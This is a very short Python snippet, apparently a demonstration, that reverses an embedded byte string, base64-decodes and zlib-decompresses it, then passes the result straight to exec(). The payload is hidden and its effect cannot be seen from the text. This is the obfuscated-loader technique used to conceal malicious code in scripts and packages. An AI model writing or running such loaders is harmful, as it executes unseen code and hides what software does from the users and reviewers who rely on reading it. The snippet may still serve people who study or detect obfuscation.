# shows: decodes and runs
import zlib as z
from base64 import b64decode as d

_ = lambda s: z.decompress(d(s[::-1]))
exec((_)(b"==ghR8AwAYiuq6UQuJWcQBLN8XoIUrMxcWIFiys4FgUyoU1zKvCSXlcyNj0zQF9KMrMKrwJe"))
